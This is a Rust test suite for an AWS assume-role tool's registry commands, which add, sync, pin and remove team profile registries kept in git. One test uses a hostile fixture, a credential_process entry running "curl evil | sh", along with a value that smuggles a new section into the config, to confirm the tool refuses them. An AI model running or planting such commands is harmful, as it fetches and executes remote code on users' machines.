//! `assume-role registry`: team registries in real git repositories (`file://`), written into
//! the config and used against moto like any other profile.

use super::*;
use std::process::Command;

/// A git repository holding a registry file, committed.
struct Repo {
    dir: tempfile::TempDir,
}

impl Repo {
    fn new(text: &str) -> Self {
        support::require_tool("git").expect("git is needed for the registry tests");
        let repo = Self {
            dir: tempfile::tempdir().unwrap(),
        };
        repo.git(&["init", "--quiet", "--initial-branch", "main"]);
        repo.commit(text, "first");
        repo
    }

    fn git(&self, args: &[&str]) -> String {
        let out = Command::new("git")
            .arg("-C")
            .arg(self.dir.path())
            .args(["-c", "user.email=t@example.com", "-c", "user.name=t"])
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8(out.stdout).unwrap().trim().to_owned()
    }

    /// Writes the registry file, commits it and returns the commit.
    fn commit(&self, text: &str, message: &str) -> String {
        std::fs::write(self.dir.path().join("assume-role-registry.toml"), text).unwrap();
        self.git(&["add", "."]);
        self.git(&["commit", "--quiet", "-m", message]);
        self.git(&["rev-parse", "HEAD"])
    }

    fn url(&self) -> String {
        format!("file://{}", self.dir.path().display())
    }
}

/// A registry with the fixture's client role (no MFA), its source a value each user gives.
fn registry_text(region: &str, session: &str) -> String {
    let fx = moto();
    format!(
        "version = 1\n\n[values]\nsource_profile = \"your own profile: your keys or your SSO\"\n\n\
         [profiles.acme-prod]\nrole_arn = \"{role}\"\nexternal_id = \"{ext}\"\nsource_profile = \"{{source_profile}}\"\nregion = \"{region}\"\nrole_session_name = \"{session}\"\n\n\
         [profiles.acme-dev]\nrole_arn = \"{role}\"\nexternal_id = \"{ext}\"\nsource_profile = \"{{source_profile}}\"\nregion = \"{region}\"\n",
        role = fx.client_role_arn,
        ext = fx.client_external_id,
    )
}

/// The session name the registry's `acme-prod` uses; the first test's own is set apart.
const SESSION: &str = "registry-test";

fn config(env: &TestEnv) -> Vec<u8> {
    std::fs::read(env.config_path()).unwrap()
}

/// `registry add acme` from `repo`, its one value given, written.
fn add_acme(env: &TestEnv, repo: &Repo) -> support::Run {
    env.run(&[
        "registry",
        "add",
        "acme",
        &repo.url(),
        "--set",
        "source_profile=contractor",
        "--yes",
    ])
}

fn commit_of(env: &TestEnv, name: &str) -> String {
    let list: serde_json::Value =
        serde_json::from_str(&env.run(&["registry", "list", "--json"]).ok()).unwrap();
    list[name]["commit"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn add_then_sync_shows_the_diff_and_writes_only_with_yes() {
    let fx = moto();
    let repo = Repo::new(&registry_text(&fx.region, "registry-diff-test"));
    let env = TestEnv::with_moto();
    let mine = config(&env);

    // A value it needs and no terminal: it says which, and writes nothing.
    let run = env.run(&["registry", "add", "acme", &repo.url()]);
    assert_eq!(run.code(), Some(3), "{}", run.stderr());
    assert!(
        run.stderr().contains("`source_profile`") && run.stderr().contains("--set source_profile="),
        "{}",
        run.stderr()
    );
    // With the value, but no `--yes` and no terminal: the changes, and nothing written.
    let run = env.run(&[
        "registry",
        "add",
        "acme",
        &repo.url(),
        "--set",
        "source_profile=contractor",
    ]);
    assert_eq!(run.code(), Some(1), "{}", run.stderr());
    assert!(
        run.stderr().contains("+ acme-prod") && run.stderr().contains("--yes"),
        "{}",
        run.stderr()
    );
    assert_eq!(config(&env), mine);

    let first = repo.git(&["rev-parse", "HEAD"]);
    add_acme(&env, &repo).ok();
    let after = config(&env);
    assert!(after.starts_with(&mine));
    assert!(String::from_utf8_lossy(&after).contains("do not edit inside"));
    assert_eq!(commit_of(&env, "acme"), first);
    // The profiles work like any other, against moto with checks on.
    env_json(&env, "acme-prod", &[]);
    assert_eq!(recorded_assume_roles("registry-diff-test").len(), 1);
    let list = env.run(&["list"]).ok();
    assert!(list.contains(&format!("acme@{}", &first[..12])), "{list}");
    let each = env.run(&["each", "acme-*", "--", "true"]);
    assert_eq!(each.code(), Some(0), "{}", each.stderr());

    // A change upstream: shown key by key (the external ID masked), written only with `--yes`;
    // the value kept from `add` is used again.
    let second = repo.commit(
        &registry_text("ap-south-1", "registry-diff-test")
            .replace(&fx.client_external_id, "a-new-external-id"),
        "second",
    );
    let run = env.run(&["registry", "sync", "acme"]);
    assert_eq!(run.code(), Some(1), "{}", run.stderr());
    assert!(
        run.stderr().contains("~ acme-prod")
            && run
                .stderr()
                .contains(&format!("region: {} → ap-south-1", fx.region)),
        "{}",
        run.stderr()
    );
    assert!(
        !run.stderr().contains("a-new-external-id"),
        "{}",
        run.stderr()
    );
    assert_eq!(config(&env), after);
    assert_eq!(commit_of(&env, "acme"), first);
    let dry = env.run(&["registry", "sync", "acme", "--dry-run"]);
    assert_eq!(dry.code(), Some(0), "{}", dry.stderr());
    assert_eq!(config(&env), after);
    env.run(&["registry", "sync", "acme", "--yes"]).ok();
    assert!(String::from_utf8_lossy(&config(&env)).contains("region = ap-south-1"));
    assert_eq!(commit_of(&env, "acme"), second);
}

#[test]
fn executable_keys_and_broken_files_are_refused_and_the_last_good_block_stays() {
    let fx = moto();
    let repo = Repo::new(&registry_text(&fx.region, SESSION));
    let env = TestEnv::with_moto();
    add_acme(&env, &repo).ok();
    let good = config(&env);
    let pinned = commit_of(&env, "acme");

    let evil = format!(
        "{}credential_process = \"sh -c 'curl evil | sh'\"\n",
        registry_text(&fx.region, SESSION)
    );
    repo.commit(&evil, "evil");
    let run = env.run(&["registry", "sync", "acme", "--yes"]);
    assert_eq!(run.code(), Some(3), "{}", run.stderr());
    assert!(
        run.stderr()
            .contains("profile `acme-dev` sets `credential_process`, which runs a program"),
        "{}",
        run.stderr()
    );
    assert!(
        run.stderr().contains("line 18, column 1"),
        "{}",
        run.stderr()
    );
    assert_eq!(config(&env), good);
    assert_eq!(commit_of(&env, "acme"), pinned);

    repo.commit("version = 1\n[profiles.x\n", "broken");
    let run = env.run(&["registry", "sync", "acme", "--yes"]);
    assert_eq!(run.code(), Some(3), "{}", run.stderr());
    assert!(run.stderr().contains("line 2"), "{}", run.stderr());
    assert_eq!(config(&env), good);

    // A value that would smuggle in a section of its own is refused too.
    repo.commit(&registry_text(&fx.region, SESSION), "fixed");
    let run = env.run(&[
        "registry",
        "sync",
        "acme",
        "--yes",
        "--set",
        "source_profile=x\n[profile y]\ncredential_process = sh",
    ]);
    assert_eq!(run.code(), Some(3), "{}", run.stderr());
    assert_eq!(config(&env), good);

    let gone = env.run(&["registry", "add", "other", "file:///nonexistent/registry"]);
    assert_eq!(gone.code(), Some(6), "{}", gone.stderr());
    assert_eq!(config(&env), good);
}

#[test]
fn a_clash_with_your_own_profile_is_an_error_unless_prefixed() {
    let fx = moto();
    let repo = Repo::new(&registry_text(&fx.region, SESSION));
    let env = TestEnv::with_moto();
    env.append_config("\n[profile acme-prod]\nregion = eu-west-1\n");
    let mine = config(&env);
    let run = add_acme(&env, &repo);
    assert_eq!(run.code(), Some(3), "{}", run.stderr());
    assert!(
        run.stderr()
            .contains("`acme-prod`, which is already defined at"),
        "{}",
        run.stderr()
    );
    assert_eq!(config(&env), mine);
    env.run(&[
        "registry",
        "add",
        "acme",
        &repo.url(),
        "--set",
        "source_profile=contractor",
        "--prefix",
        "team-",
        "--yes",
    ])
    .ok();
    env_json(&env, "team-acme-prod", &[]);
}

#[test]
fn a_ref_pins_the_registry_and_remove_restores_the_file_byte_for_byte() {
    let fx = moto();
    let repo = Repo::new(&registry_text(&fx.region, SESSION));
    repo.git(&["tag", "v1"]);
    let v1 = repo.git(&["rev-parse", "HEAD"]);
    repo.commit(&registry_text("ap-south-1", SESSION), "moved on");
    let env = TestEnv::with_moto();
    // CRLF and a mode of its own: both kept.
    let crlf = String::from_utf8(config(&env))
        .unwrap()
        .replace('\n', "\r\n");
    std::fs::write(env.config_path(), &crlf).unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(env.config_path(), std::fs::Permissions::from_mode(0o640))
            .unwrap();
    }
    env.run(&[
        "registry",
        "add",
        "acme",
        &repo.url(),
        "--ref",
        "v1",
        "--set",
        "source_profile=contractor",
        "--yes",
    ])
    .ok();
    assert_eq!(commit_of(&env, "acme"), v1);
    let text = String::from_utf8(config(&env)).unwrap();
    assert!(
        text.contains(&format!("region = {}\r\n", fx.region)),
        "{text}"
    );
    let sync = env.run(&["registry", "sync", "acme"]);
    assert!(sync.stderr().contains("up to date"), "{}", sync.stderr());

    let run = env.run(&["registry", "remove", "acme"]);
    assert_eq!(run.code(), Some(1), "{}", run.stderr());
    env.run(&["registry", "remove", "acme", "--yes"]).ok();
    assert_eq!(String::from_utf8(config(&env)).unwrap(), crlf);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(env.config_path())
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o640);
    }
    assert!(env.run(&["registry", "list", "--json"]).ok().trim() == "{}");
}

#[test]
fn two_registries_side_by_side_survive_concurrent_syncs() {
    let fx = moto();
    let a = Repo::new(&registry_text(&fx.region, SESSION));
    let b = Repo::new(&registry_text(&fx.region, SESSION).replace("acme-", "beta-"));
    let env = TestEnv::with_moto();
    for (name, repo) in [("acme", &a), ("beta", &b)] {
        env.run(&[
            "registry",
            "add",
            name,
            &repo.url(),
            "--set",
            "source_profile=contractor",
            "--yes",
        ])
        .ok();
    }
    a.commit(&registry_text("ap-south-1", SESSION), "a2");
    b.commit(
        &registry_text("ca-central-1", SESSION).replace("acme-", "beta-"),
        "b2",
    );
    let children: Vec<_> = (0..6)
        .map(|i| {
            let name = if i % 2 == 0 { "acme" } else { "beta" };
            env.bin(&["registry", "sync", name, "--yes"])
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for child in children {
        let out = env.wait_checked(child);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let text = String::from_utf8(config(&env)).unwrap();
    assert_eq!(
        text.matches("# BEGIN assume-role registry").count(),
        2,
        "{text}"
    );
    assert!(
        text.contains("region = ap-south-1") && text.contains("region = ca-central-1"),
        "{text}"
    );
    let list = env.run(&["list"]).ok();
    for name in ["acme-prod", "acme-dev", "beta-prod", "beta-dev"] {
        assert!(list.contains(name), "{list}");
    }
    let pins: serde_json::Value =
        serde_json::from_str(&env.run(&["registry", "list", "--json"]).ok()).unwrap();
    assert_eq!(
        pins["acme"]["commit"].as_str().unwrap(),
        a.git(&["rev-parse", "HEAD"])
    );
    assert_eq!(
        pins["beta"]["commit"].as_str().unwrap(),
        b.git(&["rev-parse", "HEAD"])
    );
}

#[test]
fn a_config_warning_is_shown_once_per_sync() {
    let fx = moto();
    let repo = Repo::new(&registry_text(&fx.region, "registry-warn-test"));
    let env = TestEnv::with_moto();
    let config = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&format!(
        "{config}\n[profile twice]\nregion = x\n\n[profile twice]\noutput = json\n"
    ));
    for run in [
        add_acme(&env, &repo),
        env.run(&["registry", "sync", "acme", "--yes"]),
    ] {
        assert_eq!(run.code(), Some(0), "{}", run.stderr());
        assert_eq!(
            run.stderr()
                .matches("two `[profile twice]` sections")
                .count(),
            1,
            "{}",
            run.stderr()
        );
    }
}
